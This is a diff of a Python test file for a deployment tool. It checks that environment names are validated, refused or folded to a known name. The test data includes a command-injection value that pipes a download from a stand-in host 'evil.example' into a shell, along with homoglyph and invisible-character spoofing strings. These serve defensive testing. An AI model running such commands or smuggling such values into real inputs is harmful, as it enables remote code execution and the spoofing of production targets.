@@ -11,12 +11,20 @@ from app.lifecycle.planning.environments import (
     STANDARD,
     Environment,
     NotFound,
+    deployable,
     environment_named,
     find_environment,
     known_environments,
 )
+from app.model.build import Build
+from app.model.environment_names import folded, visible
 from app.model.plan import Concurrency
-from app.model.reasons.typed import EnvironmentAmbiguous, EnvironmentMissing, EnvironmentUnknown
+from app.model.reasons.typed import (
+    EnvironmentAmbiguous,
+    EnvironmentMissing,
+    EnvironmentNameMalformed,
+    EnvironmentUnknown,
+)
 
 CONFIG = parse_config(
     """
@@ -75,12 +83,10 @@ def test_a_known_name(typed: str, name: str):
         ("pr0", {}),
         ("pr", {}),
         ("prx", {}),
-        ("pr{number}", {}),
-        ("qa-*", {}),
     ],
 )
 def test_an_unknown_name_is_refused(typed: str, details: dict[str, str]):
-    """With the closest one; a pattern is no name by itself."""
+    """With the closest one."""
     found = find_environment(typed, CONFIG, LISTED)
 
     assert isinstance(found, EnvironmentUnknown)
@@ -127,11 +133,67 @@ def test_names_that_differ_in_case_only():
 
 @pytest.mark.parametrize(
     ("typed", "created"),
-    [("sandbox", True), ("prodction", True), ("a\nb", False), ("x" * 256, False)],
+    [
+        ("sandbox", True),
+        ("prodction", True),
+        ("eu west 1", True),
+        ("a_b.c/d-e", True),
+        ("x" * 256, False),
+        ("https://evil.example/x", False),
+        ("🚀", False),
+        ("production;curl evil.example|sh", False),
+        ("pr\N{CYRILLIC SMALL LETTER O}duction", False),
+        ("qa-\N{CYRILLIC SMALL LETTER A}", False),  # a pattern matches anything
+        ("--force", False),
+        ("pr{number}", False),
+        ("qa-*", False),
+    ],
 )
 def test_new_lets_an_unknown_name_be_created(typed: str, created: bool):
-    """`--new` takes the name as typed, if it can be one."""
-    assert isinstance(find_environment(typed, CONFIG, (), new=True), Environment) is created
+    """`--new` takes what everybody can read and type."""
+    found = deployable(typed, CONFIG, (), new=True)
+    assert isinstance(found, Environment if created else EnvironmentNameMalformed)
+
+
+@pytest.mark.parametrize(
+    "typed",
+    [
+        "production ",
+        "\tproduction",
+        "pro\N{ZERO WIDTH SPACE}duction",
+        "production\N{VARIATION SELECTOR-16}",
+        "pro\N{SOFT HYPHEN}duction",
+        "\N{RIGHT-TO-LEFT OVERRIDE}production",
+        "production\N{HANGUL FILLER}",
+        "\N{FULLWIDTH LATIN SMALL LETTER P}roduction",
+        "production\x00",
+    ],
+)
+def test_what_differs_invisibly_is_the_known_one(typed: str):
+    """Rules and line are those of the name that people see, whatever GitHub lists by now."""
+    for config, listed in ((CONFIG, (typed,)), (RepoConfig(), (typed,)), (RepoConfig(), ())):
+        found = deployable(typed, config, listed, new=True)
+        assert found == environment_named("production", config)
+
+
+def test_githubs_list_makes_no_name_good():
+    """GitHub lists whatever was deployed to; the file may name what it likes."""
+    odd = "pr\N{CYRILLIC SMALL LETTER O}duction"
+    assert deployable(odd, CONFIG, (odd,), new=True) == EnvironmentNameMalformed(
+        environment=odd, closest="production"
+    )
+    named = parse_config('environments: {"EU (west)": {}}')
+    found = deployable("EU (west)", named, ())
+    assert isinstance(found, Environment)
+    assert "EU (west)" == found.name
+
+
+def test_spellings_of_one_name_have_one_line():
+    """However GitHub and people write it."""
+    names = {"Beta", "BETA", "beta ", "be\N{ZERO WIDTH SPACE}ta"}
+    assert {folded(name) for name in names} == {"beta"}
+    build = Build(repository_id=1, deployment_id=2, environment="BETA ")
+    assert build.slot_name == "beta"
 
 
 def test_new_does_not_hide_a_known_one():
@@ -204,7 +266,7 @@ def test_a_name_is_known_or_refused(typed: str, listed: list[str], new: bool):
 
     assert isinstance(found, Environment | NotFound)
     for name in listed:
-        if name.strip():
-            named = find_environment(name, RepoConfig(), listed)
+        named = find_environment(name, RepoConfig(), [name])
+        if visible(name):
             assert isinstance(named, Environment)
-            assert named.name == name
+            assert folded(named.name) == folded(name)
